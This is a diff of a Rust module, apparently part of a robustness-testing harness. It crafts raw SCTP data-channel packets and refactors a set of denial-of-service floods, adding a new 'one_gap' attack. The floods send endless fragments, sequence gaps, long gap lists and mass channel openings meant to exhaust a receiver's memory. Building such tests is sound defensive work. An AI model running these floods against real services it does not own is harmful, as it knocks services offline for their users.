@@ -4,13 +4,20 @@
 use std::time::Duration;
 
 use crate::attack::craft::sctp::{BEGIN, DCEP, END, Packet, STRING, UNORDERED, channel_open, kind};
+use crate::attack::pace::Pace;
 use crate::attack::peer::{Association, RawPeer};
 use crate::attack::{AttackError, Played, Stage};
 
 /// Chunks of a packet that is full of the smallest ones.
 const PER_PACKET: u32 = 60;
+/// The stream of the one channel that an honest page has. Its first message, 0, is the one that
+/// opened it.
+const CHANNEL: u16 = 1;
 /// As many bytes of payload as fit into a datagram.
 const FULL: usize = 1100;
+
+/// How long an attack goes on that is slow on purpose.
+const TIME_TAKES_ITS_TOLL: Duration = Duration::from_secs(30);
 
 /// A flood of packets of one association, each filled anew; ends early when the leg is ended.
 async fn flood(
@@ -20,21 +27,19 @@ async fn flood(
 ) -> Result<Played, AttackError> {
     let peer = stage.peer().await?;
     let mut association = Association::begins(peer.wire()).await?;
-    association.opens(1)?;
-    let sent = pour(stage, &peer, association, per_second, &mut fill).await?;
+    association.opens(CHANNEL)?;
+    let sent = pour(&peer, association, stage.flood(per_second), &mut fill).await?;
     Ok(Played::by(peer, sent))
 }
 
 async fn pour(
-    stage: &Stage,
     peer: &RawPeer,
     mut association: Association<'_>,
-    per_second: u32,
+    mut pace: Pace,
     fill: &mut impl FnMut(&mut Association<'_>, Packet, u32) -> Packet,
 ) -> Result<u64, AttackError> {
-    let mut pace = stage.flood(per_second);
     let mut sent = 0;
-    while pace.goes_on().await && !peer.wire().is_closed() {
+    while pace.goes_on().await && peer.leg_is_up() && !peer.wire().is_closed() {
         let packet = association.packet();
         let packet = fill(&mut association, packet, sent);
         association.sends(packet)?;
@@ -45,24 +50,28 @@ async fn pour(
 
 /// A message that is never whole, in fragments of one byte.
 pub(super) async fn tiny_fragments(stage: &Stage) -> Result<Played, AttackError> {
-    flood(stage, 1_000, |association, mut packet, _| {
-        for _ in 0..PER_PACKET {
-            packet = packet.data(0, association.tsn(), 1, STRING, b"x");
-        }
-        packet
-    })
-    .await
+    flood(stage, 1_000, |association, packet, sent| never_whole(association, packet, sent, b"x"))
+        .await
 }
 
 /// The same in fragments of no byte at all.
 pub(super) async fn empty_fragments(stage: &Stage) -> Result<Played, AttackError> {
-    flood(stage, 1_000, |association, mut packet, _| {
-        for _ in 0..PER_PACKET {
-            packet = packet.data(0, association.tsn(), 1, STRING, b"");
-        }
-        packet
-    })
-    .await
+    flood(stage, 1_000, |association, packet, sent| never_whole(association, packet, sent, b""))
+        .await
+}
+
+/// The first packet begins the message: only then is its end looked for, every time.
+fn never_whole(
+    association: &mut Association<'_>,
+    mut packet: Packet,
+    sent: u32,
+    payload: &[u8],
+) -> Packet {
+    for fragment in 0..PER_PACKET {
+        let flags = if sent == 0 && fragment == 0 { BEGIN } else { 0 };
+        packet = packet.data(flags, association.tsn(), (CHANNEL, 1), STRING, payload);
+    }
+    packet
 }
 
 /// Every second number left out: the receiver has to remember each gap.
@@ -70,24 +79,43 @@ pub(super) async fn gaps(stage: &Stage) -> Result<Played, AttackError> {
     flood(stage, 1_000, |association, mut packet, _| {
         for _ in 0..PER_PACKET {
             association.skips(1);
-            packet = packet.data(BEGIN | END, association.tsn(), 1, STRING, b"x");
+            packet = packet.data(BEGIN | END, association.tsn(), (CHANNEL, 1), STRING, b"x");
         }
         packet
     })
     .await
 }
 
+/// One number left out, and then no end of small messages that have to wait for it: as fast as
+/// rates allow, until the time that they take ends the leg.
+pub(super) async fn one_gap(stage: &Stage) -> Result<Played, AttackError> {
+    let peer = stage.peer().await?;
+    let mut association = Association::begins(peer.wire()).await?;
+    association.opens(CHANNEL)?;
+    association.skips(1);
+    let pace = stage.pace(500, TIME_TAKES_ITS_TOLL);
+    let mut fill = |association: &mut Association<'_>, mut packet: Packet, _| {
+        for _ in 0..PER_PACKET {
+            let flags = BEGIN | END | UNORDERED;
+            packet = packet.data(flags, association.tsn(), (CHANNEL, 0), STRING, b"x");
+        }
+        packet
+    };
+    let sent = pour(&peer, association, pace, &mut fill).await?;
+    Ok(Played::by(peer, sent))
+}
+
 /// Just enough gaps that their list does not fit into a packet of the receiver's.
 pub(super) async fn long_gap_list(stage: &Stage) -> Result<Played, AttackError> {
     let peer = stage.peer().await?;
     let mut association = Association::begins(peer.wire()).await?;
-    association.opens(1)?;
+    association.opens(CHANNEL)?;
     let mut sent = 0;
     for _ in 0..12 {
         let mut packet = association.packet();
         for _ in 0..PER_PACKET {
             association.skips(1);
-            packet = packet.data(BEGIN | END, association.tsn(), 1, STRING, b"x");
+            packet = packet.data(BEGIN | END, association.tsn(), (CHANNEL, 1), STRING, b"x");
         }
         association.sends(packet)?;
         sent += 1;
@@ -119,7 +147,7 @@ pub(super) async fn far_jumps(stage: &Stage) -> Result<Played, AttackError> {
     let payload = vec![b'x'; FULL];
     flood(stage, 4_000, move |association, packet, _| {
         association.skips(1_000);
-        packet.data(BEGIN, association.tsn(), 1, STRING, &payload)
+        packet.data(BEGIN, association.tsn(), (CHANNEL, 1), STRING, &payload)
     })
     .await
 }
@@ -128,7 +156,7 @@ pub(super) async fn far_jumps(stage: &Stage) -> Result<Played, AttackError> {
 pub(super) async fn channel_openings(stage: &Stage) -> Result<Played, AttackError> {
     flood(stage, 1_000, |association, packet, sent| {
         let stream = 3 + 2 * (sent as u16 % 30_000);
-        packet.data(BEGIN | END, association.tsn(), stream, DCEP, &channel_open("more"))
+        packet.data(BEGIN | END, association.tsn(), (stream, 0), DCEP, &channel_open("more"))
     })
     .await
 }
@@ -149,7 +177,7 @@ pub(super) async fn endless_message(stage: &Stage) -> Result<Played, AttackError
     let payload = vec![b'x'; FULL];
     flood(stage, 1_000, move |association, packet, sent| {
         let flags = if sent == 0 { BEGIN } else { 0 };
-        packet.data(flags, association.tsn(), 1, STRING, &payload)
+        packet.data(flags, association.tsn(), (CHANNEL, 1), STRING, &payload)
     })
     .await
 }
@@ -158,7 +186,8 @@ pub(super) async fn endless_message(stage: &Stage) -> Result<Played, AttackError
 pub(super) async fn partial_messages(stage: &Stage) -> Result<Played, AttackError> {
     let payload = vec![b'x'; FULL];
     flood(stage, 1_000, move |association, packet, sent| {
-        packet.data(BEGIN, association.tsn(), 1 + 2 * (sent as u16 % 30_000), STRING, &payload)
+        let stream = 3 + 2 * (sent as u16 % 30_000);
+        packet.data(BEGIN, association.tsn(), (stream, 0), STRING, &payload)
     })
     .await
 }
@@ -166,7 +195,7 @@ pub(super) async fn partial_messages(stage: &Stage) -> Result<Played, AttackErro
 /// Small whole messages on one channel, more than anybody types.
 pub(super) async fn many_messages(stage: &Stage) -> Result<Played, AttackError> {
     flood(stage, 3_000, |association, packet, _| {
-        packet.data(BEGIN | END | UNORDERED, association.tsn(), 1, STRING, b"hello?")
+        packet.data(BEGIN | END | UNORDERED, association.tsn(), (CHANNEL, 0), STRING, b"hello?")
     })
     .await
 }
